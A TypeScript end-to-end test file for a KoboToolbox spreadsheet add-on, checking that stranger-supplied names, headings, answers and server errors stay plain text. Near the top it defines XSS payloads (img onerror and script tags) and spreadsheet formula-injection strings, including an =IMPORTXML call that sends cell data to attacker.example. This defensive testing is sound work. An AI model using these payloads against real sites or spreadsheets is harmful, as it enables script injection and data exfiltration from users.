/** Names, answers and error texts that strangers chose: markup and formulas stay text wherever they are shown. */
import { generateSubmissions } from '../../workbench/kobotoolbox/generate-submissions';
import type { ProjectState } from '../../workbench/kobotoolbox/types';
import { exportSettings } from '../fakes/export-settings';
import { type OpenedWorkbench, openWorkbench } from './opened-workbench';

const attack = (name: string) =>
  `<img src=x onerror="window.attacked='${name}'"><script>window.attacked='${name}'</script>`;
const formula = '=IMPORTXML("https://attacker.example/?"&A1,"//a")';
const projectUid = 'aHostileProject0000001';
const heading = `=1+1 ${attack('heading')}`;
const projectName = `${formula}${attack('project')}`;
const exportName = `=HYPERLINK("https://attacker.example","x")${attack('export')}`;

function hostileProject(): ProjectState {
  const survey = [{ type: 'text', name: 'answer', label: [heading], $xpath: 'answer' }];
  const content = { survey, choices: [], translations: [null], translated: ['label'] };
  const project: ProjectState = {
    uid: projectUid,
    name: projectName,
    owner: 'demo',
    deployed: true,
    archived: false,
    versions: [{ id: 'vHostile1', content }],
    submissions: [],
    exports: [
      {
        uid: 'esHostileExport0000001',
        name: exportName,
        dateModified: '2026-08-12T09:12:13.123456Z',
        settings: exportSettings({ lang: '_default' }),
      },
    ],
    permissions: {},
    publicData: false,
  };
  const [first = {}, second = {}] = generateSubmissions(project, 2, Date.UTC(2026, 7, 20));
  return {
    ...project,
    submissions: [
      { ...first, answer: formula },
      { ...second, answer: attack('answer') },
    ],
  };
}

describe('texts of strangers', () => {
  let workbench: OpenedWorkbench;
  const elsewhere: string[] = [];

  beforeAll(async () => {
    workbench = await openWorkbench();
    workbench.page.on('request', (request) => {
      if (new URL(request.url()).hostname !== '127.0.0.1') elsewhere.push(request.url());
    });
    await workbench.control({ do: 'putProject', project: hostileProject() });
    await workbench.openSidebar();
    await workbench.sidebar.locator('#address').fill(workbench.server.choice.address);
    await workbench.sidebar.locator('#api-key').fill(workbench.server.choice.apiKey);
    await workbench.sidebar.locator('#connect').click();
  }, 60_000);
  afterAll(() => workbench?.close());

  afterEach(async () => {
    for (const frame of workbench.page.frames()) {
      expect(await frame.evaluate('window.attacked')).toBeUndefined();
      expect(await frame.locator('img').count()).toBe(0);
    }
    expect(elsewhere).toEqual([]);
    expect(workbench.errors).toEqual([]);
  });

  it('lists a project by its name as it is', async () => {
    const button = workbench.sidebar.locator(`#project-${projectUid}`);
    expect(await button.innerText()).toContain(projectName);
    await button.click();
  });

  it('offers a named export by its name as it is', async () => {
    const label = workbench.sidebar.locator('label[for^="export-"]');
    await label.waitFor();
    expect(await label.innerText()).toBe(exportName);
  });

  it('imports headings and answers as texts', async () => {
    const { sidebar, page } = workbench;
    await sidebar.locator('#import').click();
    await sidebar.locator('#result').filter({ hasText: 'Imported 2 rows' }).waitFor();
    await workbench.expectCell('A1', heading);
    await workbench.expectCell('A2', formula);
    expect(await page.inputValue('#formula')).toBe(formula);
    await workbench.expectCell('A3', attack('answer'));
    expect(await page.locator('.cell.error').count()).toBe(0);
  });

  it('writes the import into the status sheet as text', async () => {
    await workbench.openSheet('KoboToolbox status');
    await workbench.expectCell('A3', 'Import');
    await workbench.select('A4');
    await workbench.cell('A4').filter({ hasText: '=IMPORTXML' }).waitFor();
    expect(await workbench.page.locator('.cell.error').count()).toBe(0);
  });

  it('shows them as they are on the card, in the history and in the help with formulas', async () => {
    const { sidebar } = workbench;
    await sidebar.locator('#to-imports').click();
    const card = sidebar.locator('section.card');
    expect(await card.innerText()).toContain(projectName);
    expect(await card.innerText()).toContain(exportName);
    await card.locator('details[id^="more-"] summary').click();
    await card.locator('[id^="history-"]').click();
    await sidebar.locator('#history li').first().waitFor();
    await sidebar.locator('#back').click();
    await sidebar.locator('[id^="formula-"]').click();
    await sidebar.locator('#formula-column-0').check();
    expect(await sidebar.locator('label[for="formula-column-0"]').innerText()).toContain('=1+1 <img src=x');
    expect(await sidebar.locator('#formula').inputValue()).toContain(`"${heading.replaceAll('"', '""')}"`);
  });

  it('lets no heading end the quotation marks of a formula that is inserted', async () => {
    const { sidebar, page } = workbench;
    await workbench.openSheet('Sheet1');
    await workbench.select('A1');
    await sidebar.locator('#insert').click();
    await sidebar.locator('#inserted').waitFor();
    // The formula gives the column, so it has been read as one text.
    await workbench.expectCell('A1', heading);
    await workbench.expectCell('A2', formula);
    expect(await page.locator('.cell.error').count()).toBe(0);
    await sidebar.locator('#back').click();
  });

  it('shows what the server says about a failure as text', async () => {
    const { sidebar } = workbench;
    const body = `Waited.\n\n{'error': '${attack('server').replaceAll("'", '`')}'}`;
    await workbench.control({
      do: 'fault',
      fault: { on: 'export', times: 9, kind: { status: 500, body, contentType: 'text/plain' } },
    });
    await workbench.refresh();
    const message = await sidebar.locator('#failure').innerText();
    expect(message).toContain('KoboToolbox could not make the export (<img src=x onerror=');
    await workbench.openSheet('KoboToolbox status');
    await workbench.expectCell('B4', message);
  });
});
